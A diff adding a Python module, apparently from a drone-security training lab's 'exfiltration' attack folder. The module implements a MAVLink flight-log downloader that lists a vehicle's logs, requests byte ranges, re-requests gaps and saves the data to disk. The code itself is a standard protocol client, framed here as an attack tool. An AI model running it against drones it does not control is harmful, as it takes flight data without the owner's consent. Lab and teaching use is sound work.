@@ -0,0 +1,267 @@
+# dvd_lite/dvd_attacks/exfiltration/log_download.py
+"""
+MAVLink 로그 다운로드 엔진
+LOG_REQUEST_LIST로 로그 목록을 받고, LOG_REQUEST_DATA 구간 요청을 window개까지 동시에 유지하며
+LOG_DATA(90바이트) 조각을 미리 크기를 잡아 둔 mmap 파일에 바로 기록한다.
+
+받은 바이트 구간은 IntervalSet으로 관리한다. 요청 구간은 자기 범위의 마지막 조각이 도착하거나
+(가장 먼저 요청한 구간이) timeout 동안 조각을 받지 못하면 끝난 것으로 보고,
+비어 있는 부분(유실)만 대기열 앞에 넣어 다시 요청한다. 응답이 전혀 없을 때는 진행 중인 구간을 모두 끝낸다.
+어느 요청 구간에도 속하지 않는 조각(이전 요청의 늦은 / 중복 조각)은 빈 곳을 채울 때만 기록하고 구간 상태는 바꾸지 않는다.
+ArduPilot처럼 새 LOG_REQUEST_DATA가 진행 중인 전송을 대체하는 기체에서는 구간을 여러 개 걸어 두면
+앞 구간이 계속 끊기므로 기본값은 window=1과 큰 request_chunks(한 요청으로 스트림 전송)이다.
+window > 1은 요청을 순서대로 처리하는 기체(대체 기체 등)에만 사용한다.
+"""
+
+import asyncio
+import bisect
+import logging
+import mmap
+import os
+from collections import deque
+from dataclasses import dataclass, asdict
+from typing import Dict, List, Any, Tuple, Optional, Callable
+
+from ... import mavlink
+
+logger = logging.getLogger(__name__)
+
+LOG_DATA_CHUNK = 90
+# window=1일 때 한 요청으로 받는 조각 수 (약 360KB)
+STREAM_REQUEST_CHUNKS = 4096
+
+class LogDownloadError(Exception):
+    """로그 다운로드 실패 (목록 응답 없음 등)"""
+
+class IntervalSet:
+    """겹치지 않는 반열린 구간 [start, end) 집합 (맞닿은 구간은 병합)"""
+
+    def __init__(self):
+        self._starts: List[int] = []
+        self._ends: List[int] = []
+        self.covered = 0
+
+    def __len__(self) -> int:
+        return len(self._starts)
+
+    def __iter__(self):
+        return iter(zip(self._starts, self._ends))
+
+    def add(self, start: int, end: int) -> int:
+        """구간 추가 - 새로 채워진 바이트 수 반환"""
+        if end <= start:
+            return 0
+        # start 이전에 끝나지 않는 첫 구간부터 end 이후에 시작하지 않는 마지막 구간까지 병합
+        first = bisect.bisect_left(self._ends, start)
+        last = bisect.bisect_right(self._starts, end)
+        merged = list(zip(self._starts[first:last], self._ends[first:last]))
+        existing = sum(e - s for s, e in merged)
+        if merged:
+            start = min(start, merged[0][0])
+            end = max(end, merged[-1][1])
+        self._starts[first:last] = [start]
+        self._ends[first:last] = [end]
+        added = (end - start) - existing
+        self.covered += added
+        return added
+
+    def contains(self, start: int, end: int) -> bool:
+        index = bisect.bisect_right(self._starts, start) - 1
+        return index >= 0 and self._ends[index] >= end
+
+    def gaps(self, start: int, end: int) -> List[Tuple[int, int]]:
+        """[start, end) 안의 비어 있는 구간"""
+        gaps = []
+        position = start
+        index = max(0, bisect.bisect_right(self._starts, start) - 1)
+        while position < end and index < len(self._starts):
+            s, e = self._starts[index], self._ends[index]
+            if s >= end:
+                break
+            if s > position:
+                gaps.append((position, s))
+            position = max(position, e)
+            index += 1
+        if position < end:
+            gaps.append((position, end))
+        return gaps
+
+@dataclass
+class LogEntry:
+    """기체의 로그 항목"""
+    id: int
+    size: int
+    time_utc: int = 0
+
+@dataclass
+class LogDownloadReport:
+    """로그 다운로드 결과"""
+    log_id: int
+    size: int
+    received: int
+    elapsed: float
+    requests: int
+    re_requests: int
+    duplicate_bytes: int
+    timeouts: int
+
+    @property
+    def complete(self) -> bool:
+        return self.received == self.size
+
+    @property
+    def kbps(self) -> float:
+        return self.received / 1024 / self.elapsed if self.elapsed > 0 else 0.0
+
+    def to_dict(self) -> Dict[str, Any]:
+        return dict(asdict(self), complete=self.complete, kbps=round(self.kbps, 1))
+
+class LogDownloader:
+    """로그 목록 조회 / 다운로드"""
+
+    def __init__(self, client: mavlink.MAVLinkClient, target_system: int = 1, target_component: int = 1,
+                 window: int = 1, request_chunks: int = STREAM_REQUEST_CHUNKS, timeout: float = 0.5, max_retries: int = 5):
+        self.client = client
+        self.target_system = target_system
+        self.target_component = target_component
+        self.window = max(1, window)
+        self.request_size = max(1, request_chunks) * LOG_DATA_CHUNK
+        self.timeout = timeout
+        self.max_retries = max_retries
+
+    def _target(self) -> Dict[str, int]:
+        return {"target_system": self.target_system, "target_component": self.target_component}
+
+    async def list_logs(self) -> List[LogEntry]:
+        """LOG_REQUEST_LIST - 로그 항목 목록 (로그가 없으면 빈 목록)"""
+        for _ in range(self.max_retries + 1):
+            self.client.send("LOG_REQUEST_LIST", start=0, end=0xFFFF, **self._target())
+            entries: Dict[int, LogEntry] = {}
+            expected = None
+            while expected is None or len(entries) < expected:
+                message = await self.client.recv({"LOG_ENTRY"}, self.timeout)
+                if message is None:
+                    break
+                expected = message.fields["num_logs"]
+                if expected and message.fields["id"]:
+                    entries[message.fields["id"]] = LogEntry(message.fields["id"], message.fields["size"],
+                                                             message.fields["time_utc"])
+            if expected is not None:
+                return [entries[log_id] for log_id in sorted(entries)]
+        raise LogDownloadError("로그 목록 응답 없음")
+
+    async def download(self, entry: LogEntry, path: str) -> LogDownloadReport:
+        """로그 하나를 path로 다운로드 (미리 크기를 잡은 파일을 mmap으로 채움)"""
+        loop = asyncio.get_running_loop()
+        started = loop.time()
+        received = IntervalSet()
+        pending = deque()                                  # 요청 대기 구간 (재요청 구간이 앞)
+        outstanding: Dict[int, List[Any]] = {}             # 구간 시작 → [끝, 실패 횟수, 받은 바이트, 마지막 수신 시각] (요청 순서)
+        frontier = 0
+        requests = re_requests = duplicate_bytes = timeouts = idle = 0
+
+        def request(start: int, end: int, failures: int = 0) -> None:
+            nonlocal requests
+            self.client.send("LOG_REQUEST_DATA", id=entry.id, ofs=start, count=end - start, **self._target())
+            outstanding[start] = [end, failures, 0, loop.time()]
+            requests += 1
+
+        def retire(start: int) -> None:
+            """구간 종료 - 비어 있는 부분은 재요청 대기열 앞에 넣음"""
+            nonlocal re_requests
+            end, failures, got, _ = outstanding.pop(start)
+            # 받은 것이 있으면 진행한 것으로 보고 실패 횟수를 초기화
+            failures = 0 if got else failures + 1
+            gaps = received.gaps(start, end)
+            if gaps and failures > self.max_retries:
+                logger.warning(f"로그 {entry.id} 구간 {start}-{end} 재요청 포기")
+                return
+            for gap in reversed(gaps):
+                pending.appendleft((gap[0], gap[1], failures))
+                re_requests += 1
+
+        with open(path, "w+b") as f:
+            f.truncate(entry.size)
+            view = mmap.mmap(f.fileno(), entry.size) if entry.size else None
+            try:
+                while received.covered < entry.size:
+                    while len(outstanding) < self.window and (pending or frontier < entry.size):
+                        if pending:
+                            request(*pending.popleft())
+                        else:
+                            end = min(entry.size, frontier + self.request_size)
+                            request(frontier, end)
+                            frontier = end
+                    if not outstanding:
+                        break
+
+                    message = await self.client.recv({"LOG_DATA"}, self.timeout)
+                    if message is None:
+                        # 응답 없음 - 진행 중인 구간을 모두 끝내고 빈 곳만 재요청
+                        timeouts += 1
+                        idle += 1
+                        if idle > self.max_retries:
+                            logger.warning(f"로그 {entry.id} 응답 없음 - 다운로드 중단")
+                            break
+                        for start in list(outstanding):
+                            retire(start)
+                        continue
+                    if message.fields["id"] != entry.id:
+                        continue
+                    idle = 0
+
+                    offset, count = message.fields["ofs"], message.fields["count"]
+                    count = min(count, entry.size - offset) if offset < entry.size else 0
+                    added = received.add(offset, offset + count) if count > 0 else 0
+                    duplicate_bytes += count - added
+                    if added:
+                        view[offset:offset + count] = message.fields["data"][:count]
+
+                    # 조각이 속한 구간만 갱신 - 구간 끝까지 받았거나 구간이 모두 채워지면 종료
+                    now = loop.time()
+                    for start, state in list(outstanding.items()):
+                        if start <= offset < state[0]:
+                            state[2] += added
+                            state[3] = now
+                            if offset + count >= state[0] or received.contains(start, state[0]):
+                                retire(start)
+                            break
+
+                    # 가장 먼저 요청한 구간이 timeout 동안 조각을 받지 못했으면 종료 (뒤 구간은 그 다음부터 시간 계산)
+                    if outstanding:
+                        head = next(iter(outstanding))
+                        if now - outstanding[head][3] > self.timeout:
+                            retire(head)
+                            if outstanding:
+                                following = outstanding[next(iter(outstanding))]
+                                following[3] = max(following[3], now)
+                if view is not None:
+                    view.flush()
+            finally:
+                if view is not None:
+                    view.close()
+
+        self.client.send("LOG_REQUEST_END", **self._target())
+        elapsed = loop.time() - started
+        report = LogDownloadReport(entry.id, entry.size, received.covered, elapsed, requests, re_requests,
+                                   duplicate_bytes, timeouts)
+        logger.info(f"📥 로그 {entry.id} 다운로드: {report.received}/{entry.size}바이트, "
+                    f"{report.kbps:.1f} KB/s, 재요청 {re_requests}")
+        return report
+
+    async def download_all(self, directory: str, max_logs: int = 1,
+                           on_selected: Optional[Callable[[List[LogEntry]], None]] = None
+                           ) -> List[Tuple[str, LogDownloadReport]]:
+        """최근 로그 max_logs개 다운로드 (경로, 보고서) 목록
+
+        on_selected: 받을 로그가 정해지면 다운로드 전에 그 항목 목록으로 호출 (전송량에 따른 제한 시간 조정 등)
+        """
+        entries = await self.list_logs()
+        selected = entries[-max_logs:] if max_logs else entries
+        if on_selected is not None:
+            on_selected(selected)
+        results = []
+        for entry in selected:
+            path = os.path.join(directory, f"{entry.id:08d}.BIN")
+            results.append((path, await self.download(entry, path)))
+        return results